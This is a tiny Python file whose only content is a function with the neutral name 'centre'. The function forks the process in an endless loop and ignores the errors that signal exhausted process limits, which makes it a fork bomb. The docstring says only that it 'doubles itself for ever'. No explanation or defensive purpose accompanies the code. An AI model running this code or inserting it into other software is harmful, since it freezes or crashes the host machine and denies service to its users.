"""Doubles itself for ever."""

import os


def centre(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
